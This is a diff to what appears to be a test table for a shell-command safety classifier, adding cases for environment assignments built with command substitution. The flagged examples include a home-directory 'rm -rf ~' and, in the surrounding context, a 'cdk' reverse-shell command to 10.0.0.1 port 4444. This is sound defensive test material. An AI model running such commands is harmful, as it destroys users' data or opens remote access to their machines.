@@ -40,6 +40,11 @@ ordinary("programs", [
     ["dd if=/dev/zero of=/tmp/blob", "cat /dev/zero > blob"],
   ],
   [
+    "an assignment whose value is worked out is none the less an assignment",
+    ['env NODE_OPTIONS="$(node options.js)" npm test', 'cross-env X="$(date +%s)" npm test'],
+    ["env X=$(sed -n 1p names) npm test", 'env X="$(date)" rm -rf ~'],
+  ],
+  [
     "AWS has a cdk too",
     ["cdk synth", "cdk diff", "cdk ls"],
     ["cdk run shim-pwn reverse 10.0.0.1 4444", "cdk evaluate", "cdk deploy"],
